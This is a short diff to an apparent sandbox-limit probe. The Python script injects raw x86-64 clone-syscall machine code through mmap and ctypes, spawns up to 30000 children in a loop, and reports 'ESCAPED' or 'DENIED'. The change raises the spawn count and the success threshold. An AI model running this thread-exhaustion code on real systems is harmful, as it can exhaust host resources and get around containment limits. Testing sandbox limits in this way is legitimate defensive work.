@@ -12,5 +12,5 @@ code.write(bytes.fromhex('b838000000' '0f05' '4885c0' '7401' 'c3' 'b822000000' '
 spawn = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
 stacks = mmap.mmap(-1, 1 << 20); top = ctypes.addressof(ctypes.c_char.from_buffer(stacks)) + (1 << 19)
 n = 0
-while n < 20000 and spawn(0x10f00, top, 0, 0, 0) > 0: n += 1
-print('ESCAPED' if n >= 5000 else 'DENIED after', n)
+while n < 30000 and spawn(0x10f00, top, 0, 0, 0) > 0: n += 1
+print('ESCAPED' if n >= 30000 else 'DENIED after', n)
